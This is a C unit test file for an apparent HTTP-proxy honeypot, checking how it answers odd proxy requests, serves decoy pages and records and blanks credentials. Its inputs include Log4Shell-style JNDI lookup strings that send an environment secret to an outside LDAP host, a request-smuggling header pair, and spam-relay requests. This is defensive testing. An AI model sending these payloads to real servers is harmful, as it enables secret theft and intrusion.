// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * mimic_http.c - the HTTP proxy: requests of every odd form, what is answered, what is hidden.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <cmocka.h>

#include "visit.h"

#define ESTABLISHED "HTTP/1.1 200 Connection established\r\n\r\n"

static const struct http_case {
	const char *says;
	const char *hears; /* what the output begins with */
	const char *host;
	int32_t port;
	uint8_t depth, class;
	unsigned int hops, rows; /* requests for a relay; hop rows, with those for none */
} cases[] = {
	{ "CONNECT example.org:443 HTTP/1.1\r\nHost: example.org:443\r\n\r\n", ESTABLISHED, "example.org", 443, DEPTH_request, CLASS_web, 1, 1 },
	{ "CONNECT 192.0.2.1:6667 HTTP/1.0\r\n\r\n\r\n", "HTTP/1.0 200 Connection established\r\n\r\n", "192.0.2.1", 6667, DEPTH_request,
	  CLASS_tunnel, 1, 1 },
	{ "CONNECT Mail.Example.ORG:0025 / HTTP/1.0\r\nno colon here\r\n\r\n",
	  "HTTP/1.0 200 Connection established\r\n\r\n220 Mail.Example.ORG ESMTP\r\n", "Mail.Example.ORG", 25, DEPTH_request, CLASS_mail, 1, 1 },
	{ "CONNECT [2001:db8::1]:443 HTTP/1.1\n\n", ESTABLISHED, "2001:db8::1", 443, DEPTH_request, CLASS_web, 1, 1 },
	{ "CONNECT mx.example.org:465 HTTP/1.1\r\n\r\n", ESTABLISHED, "mx.example.org", 465, DEPTH_request, CLASS_mail, 1, 1 },
	{ "connect a.example:80\r\n", "HTTP/1.0 200 Connection established\r\n\r\n", "a.example", 80, DEPTH_request, CLASS_web, 1, 1 },
	{ "CONNECT a.example:99999 HTTP/1.1\r\n\r\n", ESTABLISHED, "a.example", -1, DEPTH_request, CLASS_tunnel, 1, 1 },
	{ "CONNECT abc:443 HTTP/1.1\r\n\r\n\nGET / HTTP/1.1\r\nHost: abc\r\n\r\n\n", ESTABLISHED "HTTP/1.1 200 OK\r\n", "abc", 443, DEPTH_inner,
	  CLASS_web, 1, 2 },
	{ "GET HTTP://bro.org/ HTTP/1.1\r\nHost: bro.org\r\n\r\n", "HTTP/1.1 200 OK\r\n", "bro.org", 80, DEPTH_request, CLASS_web, 1, 1 },
	{ "GET https://bro.org HTTP/1.1\r\n\r\n", "HTTP/1.1 200 OK\r\n", "bro.org", 443, DEPTH_request, CLASS_web, 1, 1 },
	{ "GET http://bro.org:8081/x?y HTTP/1.0\r\n\r\n", "HTTP/1.0 200 OK\r\n", "bro.org", 8081, DEPTH_request, CLASS_web, 1, 1 },
	{ "GET / HTTP/1.1\r\nHost: a\r\n\r\n", "HTTP/1.1 400 Bad Request\r\n", "", -1, DEPTH_request, CLASS_other, 0, 1 },
	{ "GET / HTTP/1.0\n\n", "HTTP/1.0 400 Bad Request\r\n", "", -1, DEPTH_request, CLASS_other, 0, 1 },
	{ "GET /cgi-bin/formmail.pl?email=f2@example.com\r\n", "<html>", "", -1, DEPTH_request, CLASS_other, 0, 1 },
	{ "\r\n\r\nGET http://a.example/ HTTP/1.1\r\n\r\n", "HTTP/1.1 200 OK\r\n", "a.example", 80, DEPTH_request, CLASS_web, 1, 1 },
	{ "GET                  /long HTTP/1.1\r\nhOsT:a\r\n\r\nGET /rick.gif HTTP/1.1\r\n\r\n", "HTTP/1.1 400 ", "", -1, DEPTH_request,
	  CLASS_other, 0, 2 },
	{ "XFOC / HTTP/1.1\r\n\r\n", "HTTP/1.1 400 ", "", -1, DEPTH_request, CLASS_other, 0, 1 },
	{ "POST /first HTTP/1.1\r\nContent-Length: 30\r\n\r\nTransfer-Encoding: chunked\r\n\r\nPOST /second HTTP/1.1\r\n\r\n", "HTTP/1.1 400 ",
	  "", -1, DEPTH_request, CLASS_other, 0, 2 },
	{ "POST http://a.example/ HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5;x=y\r\nhello\r\n1\n!\n0\r\nTrailer: x\r\n\r\n"
	  "GET http://b.example/ HTTP/1.1\r\n\r\n", "HTTP/1.1 200 OK\r\n", "a.example", 80, DEPTH_request, CLASS_web, 2, 2 },
	{ "POST http://mx.example:25/ HTTP/1.0\r\nContent-Length: 60\r\n\r\nHELO x\r\nMAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\nDATA\r\nhi\r\n.\r\nQUIT\r\n",
	  "HTTP/1.0 200 OK\r\n", "mx.example", 25, DEPTH_data, CLASS_mail, 1, 1 },
	{ "POST http://a.example/ HTTP/1.0\r\nContent-Length: 60\r\n\r\nHELO x\r\nMAIL FROM:<a@b>\r\nRCPT TO:<c@d>\r\n", "HTTP/1.0 200 OK\r\n",
	  "a.example", 80, DEPTH_rcpt, CLASS_web, 1, 1 },
	{ "POST http://a.example/ HTTP/1.1\r\n\r\nEHLO x\r\nMAIL FROM:<a@b>\r\n", "HTTP/1.1 200 OK\r\n", "a.example", 80, DEPTH_inner, CLASS_web,
	  1, 1 },
	{ "GET / HT", "", "", -1, DEPTH_payload, CLASS_other, 0, 0 },
	{ "SEARCH /AAAAAAAAAAAAAAAAAAA", "", "", -1, DEPTH_payload, CLASS_other, 0, 0 },
};

static void check_case(const struct http_case *want, unsigned int cut)
{
	struct visit *visit = visit_open(8080);

	visit_begin(visit);
	visit_say_cut(visit, slice_of_text(want->says), cut);
	visit_end(visit);
	print_message("cut %u of %s\n", cut, want->says);
	assert_true(visit_is(visit->access.protocol, "http"));
	assert_memory_equal(visit->text, want->hears, strlen(want->hears));
	assert_true(visit_is(visit->access.relay_host, want->host));
	assert_int_equal(visit->access.relay_port, want->port);
	assert_int_equal(visit->access.depth, want->depth);
	assert_int_equal(visit->access.class, want->class);
	assert_int_equal(visit->access.hops, want->hops);
	assert_int_equal(visit_count(visit, RECORD_HOP), want->rows);
	visit_close(visit);
}

static void requests_are_answered_and_recorded(void **state)
{
	(void)state;
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
		for (unsigned int cut = 0; cut < 5; cut++)
			check_case(&cases[i], cut);
}

/* One GET through the proxy; returns the visit, ended. */
static struct visit *get(const char *url, const char *headers, uint32_t page_bytes)
{
	struct visit *visit = visit_open(3128);
	char request[2048];

	snprintf(request, sizeof(request), "GET %s HTTP/1.1\r\n%s\r\n", url, headers);
	visit->policy.page_bytes = page_bytes;
	visit_begin(visit);
	visit_say(visit, request);
	visit_end(visit);
	return visit;
}

/* Body of the only response in the output, after its Content-Length was found right. */
static const char *body_of(struct visit *visit)
{
	const char *end = strstr(visit->text, "\r\n\r\n"), *length = strstr(visit->text, "Content-Length: ");

	assert_non_null(end);
	assert_non_null(length);
	assert_true(length < end);
	assert_int_equal(strtoul(length + strlen("Content-Length: "), NULL, 10), visit->text_length - (size_t)(end + 4 - visit->text));
	return end + 4;
}

static void a_judge_shows_what_the_request_carried(void **state)
{
	struct visit *visit = get("http://judge.example/azenv.php",
				  "User-Agent: PxBroker/0.3/4711\r\nCookie: cookie=ok\r\nReferer: https://www.google.com/\r\n"
				  "Proxy-Connection: close\r\nProxy-Authorization: Basic Ym9iOmFsaWNl\r\nX-Evil: <script>\r\n", 0);
	const char *body = body_of(visit);

	(void)state;
	assert_non_null(strstr(body, "AZ Environment variables"));
	assert_non_null(strstr(body, "REMOTE_ADDR = 203.0.113.10\n"));
	assert_non_null(strstr(body, "REQUEST_METHOD = GET\n"));
	assert_non_null(strstr(body, "HTTP_USER_AGENT = PxBroker/0.3/4711\n"));
	assert_non_null(strstr(body, "HTTP_COOKIE = cookie=ok\n"));
	assert_non_null(strstr(body, "https://www.google.com/"));
	assert_null(strstr(body, "198.51.100.7"));
	assert_null(strcasestr(body, "proxy"));
	assert_null(strcasestr(body, "via"));
	assert_null(strstr(body, "<script>"));
	visit_close(visit);
}

static void sites_that_echo_an_address_give_the_decoys(void **state)
{
	static const struct {
		const char *url, *body;
	} sites[] = {
		{ "http://api.ipify.org/", "203.0.113.10" },
		{ "http://api.ipify.org/?format=json", "{\"ip\":\"203.0.113.10\"}" },
		{ "http://icanhazip.com", "203.0.113.10\n" },
		{ "http://httpbin.org/ip", "{\n  \"origin\": \"203.0.113.10\"\n}\n" },
		{ "http://detectportal.firefox.com/success.txt", "success\n" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(sites) / sizeof(sites[0]); i++) {
		struct visit *visit = get(sites[i].url, "", 262144);

		assert_string_equal(body_of(visit), sites[i].body);
		visit_close(visit);
	}
}

static void pages_differ_by_host_and_stay_the_same(void **state)
{
	struct visit *a = get("http://www.example.com/", "", 0), *again = get("http://www.example.com/", "", 0);
	struct visit *b = get("http://www.example.net/", "", 0);

	(void)state;
	assert_string_equal(body_of(a), body_of(again));
	assert_string_not_equal(body_of(a), body_of(b));
	assert_non_null(strstr(body_of(a), "<title>www.example.com - "));
	assert_non_null(strstr(a->text, "\r\nDate: Tue, 14 Nov 2023 22:13:20 GMT\r\n"));
	visit_close(a);
	visit_close(again);
	visit_close(b);
}

static void a_page_has_the_length_that_was_set(void **state)
{
	static const uint32_t sizes[] = { 1, 1000, 4096, 262144, 262145 };

	(void)state;
	for (size_t i = 0; i < sizeof(sizes) / sizeof(sizes[0]); i++) {
		struct visit *visit = get("http://www.example.com/", "", sizes[i]);

		assert_int_equal(visit->text_length - (size_t)(body_of(visit) - visit->text), sizes[i]);
		visit_close(visit);
	}
}

static void head_has_no_body_and_the_same_length(void **state)
{
	struct visit *page = get("http://www.example.com/", "", 5000), *visit = visit_open(8080);

	(void)state;
	visit->policy.page_bytes = 5000;
	visit_begin(visit);
	visit_say(visit, "HEAD http://www.example.com/ HTTP/1.1\r\n\r\n");
	visit_end(visit);
	assert_non_null(strstr(visit->text, "\r\nContent-Length: 5000\r\n"));
	assert_string_equal(strstr(visit->text, "\r\n\r\n"), "\r\n\r\n");
	assert_int_equal(strlen("\r\n\r\n") + (size_t)(strstr(page->text, "\r\n\r\n") - page->text), visit->text_length);
	visit_close(visit);
	visit_close(page);
}

static void a_full_pool_breaks_off_instead_of_cutting_short(void **state)
{
	struct visit *visit = visit_open(8080);

	(void)state;
	visit->policy.page_bytes = VISIT_CHUNKS * CHUNK_BYTES;
	visit_begin(visit);
	visit_say(visit, "GET http://www.example.com/ HTTP/1.1\r\n\r\n");
	assert_true(visit->wish.abort);
	visit_end(visit);
	visit_close(visit);
}

static void connections_are_kept_as_asked(void **state)
{
	static const struct {
		const char *request;
		bool close;
	} asked[] = {
		{ "GET http://a.example/ HTTP/1.1\r\n\r\n", false },
		{ "GET http://a.example/ HTTP/1.1\r\nConnection: close\r\n\r\n", true },
		{ "GET http://a.example/ HTTP/1.1\r\nProxy-Connection: Keep-Alive\r\n\r\n", false },
		{ "GET http://a.example/ HTTP/1.0\r\n\r\n", true },
		{ "GET http://a.example/ HTTP/1.0\r\nConnection: keep-alive\r\n\r\n", false },
		{ "GET http://a.example/\r\n", true },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(asked) / sizeof(asked[0]); i++) {
		struct visit *visit = visit_open(8080);

		visit_begin(visit);
		visit_say(visit, asked[i].request);
		assert_int_equal(visit->wish.close, asked[i].close);
		visit_close(visit);
	}
}

static void credentials_are_recorded_and_blanked(void **state)
{
	static const struct {
		const char *says, *mechanism, *username, *secret, *payload; /* payload: a part of it; secret "" = none recorded */
	} secrets[] = {
		{ "CONNECT a:443 HTTP/1.1\r\nProxy-Authorization: Basic Ym9iOmFsaWNl\r\n\r\n", "http_basic", "bob", "alice",
		  "Basic ************\r\n" },
		{ "GET http://a/ HTTP/1.1\r\nauthorization:  Basic Ym9iOmFsaWNl\r\n\r\n", "http_site_basic", "bob", "alice",
		  "Basic ************\r\n" },
		{ "CONNECT a:443 HTTP/1.1\r\nProxy-Authorization: Digest username=\"b\",\r\n response=\"alice\"\r\n\r\n", "http_digest", "",
		  NULL, "Digest *" },
		{ "GET http://bob:alice@a.example/ HTTP/1.1\r\n\r\n", "url", "", "alice", "GET http://bob:*****@a.example/" },
		{ "CONNECT a:443 HTTP/1.1\r\nProxy-Authorization: Basic Ym9iOmFsa", NULL, NULL, NULL, "Basic *********" },
		{ "GET http://a/ HTTP/1.0\r\n Proxy-Authorization: Basic Ym9iOmFsaWNl\r\n\r\n", "http_basic", "bob", "alice",
		  "\r\n Proxy-Authorization: Basic ************\r\n" },
		{ "GET http://bob:alice@a/ HTTP/1.1\r\nHost: bob:alice@a\r\nReferer: https://bob:alice@b/\r\n\r\n", "url", "", "alice",
		  "Host: bob:*****@a\r\nReferer: https://bob:*****@b/\r\n" },
		{ "GET http://a/ HTTP/1.1\r\nHost: a:80\r\nFrom: a:b, c@d\r\n\r\n", NULL, NULL, NULL, "Host: a:80\r\nFrom: a:b, c@d" },
		{ "GET / HTTP/1.1\r\nX-Api: ${jndi:ldap://${env:KEY}@198.51.100.1/a}\r\n\r\n", NULL, NULL, NULL, "${env:KEY}@" },
		{ "GET / HTTP/1.1\r\nAuthorization: Bearer ${jndi:ldap://198.51.100.1/a}\r\n\r\n", NULL, NULL, NULL, "${jndi:" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(secrets) / sizeof(secrets[0]); i++) {
		struct visit *visit = visit_open(8080);
		struct record record;
		uint8_t hash[32];

		visit_begin(visit);
		visit_say_cut(visit, slice_of_text(secrets[i].says), (unsigned int)i & 1);
		visit_end(visit);
		print_message("%s\n", secrets[i].says);
		assert_non_null(memmem(visit->access.payload.bytes, visit->access.payload.length, secrets[i].payload,
				       strlen(secrets[i].payload)));
		assert_int_equal(visit->access.payload.length, strlen(secrets[i].says));
		assert_null(memmem(visit->access.payload.bytes, visit->access.payload.length, "alice", 5));
		assert_null(memmem(visit->records.bytes, visit->records.length, "alice", 5));
		assert_null(memmem(visit->records.bytes, visit->records.length, "Ym9iOmFsa", 9));
		assert_int_equal(visit_record(visit, RECORD_CREDENTIAL, 0, &record), secrets[i].mechanism != NULL);
		if (secrets[i].mechanism) {
			assert_true(visit_is(record.credential.mechanism, secrets[i].mechanism));
			assert_true(visit_is(record.credential.username, secrets[i].username));
		}
		if (secrets[i].secret) {
			secret_hash(visit->policy.secret_key, slice_of_text(secrets[i].secret), hash);
			assert_memory_equal(record.credential.secret_hash, hash, sizeof(hash));
		}
		visit_close(visit);
	}
}

static void an_endless_head_is_bounded(void **state)
{
	struct visit *visit = visit_open(8080);
	char line[1024];

	(void)state;
	memset(line, 'A', sizeof(line));
	visit_begin(visit);
	visit_say(visit, "GET http://a.example/");
	for (unsigned int i = 0; i < 200; i++)
		visit_say_bytes(visit, slice_of(line, sizeof(line)));
	assert_true(visit->chunks.used < 140);
	visit_end(visit);
	assert_int_equal(visit->access.depth, DEPTH_payload);
	assert_true(visit->access.payload_truncated);
	assert_true(visit->wish.close);
	visit_close(visit);
}

static void a_flood_of_requests_writes_a_bounded_number_of_rows(void **state)
{
	struct visit *visit = visit_open(8080);

	(void)state;
	visit_begin(visit);
	for (unsigned int i = 0; i < 2000; i++) {
		visit_say(visit, "HEAD http://a.example/ HTTP/1.1\r\n\r\n");
		visit_hear_no_more(visit);
	}
	visit_end(visit);
	assert_int_equal(visit->access.hops, 2000);
	assert_int_equal(visit_count(visit, RECORD_HOP), 512);
	visit_close(visit);
}

static void an_operator_is_imitated_only_on_demand(void **state)
{
	(void)state;
	for (int on = 0; on < 2; on++) {
		struct visit *visit = visit_open(8080);

		visit->policy.impersonate = on;
		visit_begin(visit);
		visit_say(visit, "GET http://www.google.com/ HTTP/1.1\r\n\r\n");
		visit_end(visit);
		assert_int_equal(strstr(visit->text, "\r\nServer: gws\r\n") != NULL, on);
		visit_close(visit);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(requests_are_answered_and_recorded),
		cmocka_unit_test(a_judge_shows_what_the_request_carried),
		cmocka_unit_test(sites_that_echo_an_address_give_the_decoys),
		cmocka_unit_test(pages_differ_by_host_and_stay_the_same),
		cmocka_unit_test(a_page_has_the_length_that_was_set),
		cmocka_unit_test(head_has_no_body_and_the_same_length),
		cmocka_unit_test(a_full_pool_breaks_off_instead_of_cutting_short),
		cmocka_unit_test(connections_are_kept_as_asked),
		cmocka_unit_test(credentials_are_recorded_and_blanked),
		cmocka_unit_test(an_endless_head_is_bounded),
		cmocka_unit_test(a_flood_of_requests_writes_a_bounded_number_of_rows),
		cmocka_unit_test(an_operator_is_imitated_only_on_demand),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
